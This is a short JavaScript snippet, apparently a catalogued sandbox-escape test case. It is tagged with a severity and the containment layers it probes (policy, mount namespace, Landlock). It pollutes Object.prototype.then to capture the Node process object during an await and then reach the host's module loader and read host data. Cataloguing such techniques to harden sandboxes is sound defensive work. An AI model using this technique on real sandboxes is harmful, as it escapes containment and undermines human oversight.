// technique: a then of all objects is called by what a library awaits
// family: B
// severity: H
// layers: policy, mount_namespace, landlock
(async () => {
  let found;
  Object.defineProperty(Object.prototype, 'then', { configurable: true, get() { if (this && this.mainModule) found = this; return undefined; } });
  try { await process; } finally { delete Object.prototype.then; }
  readHost(() => loaderOf(found));
})();
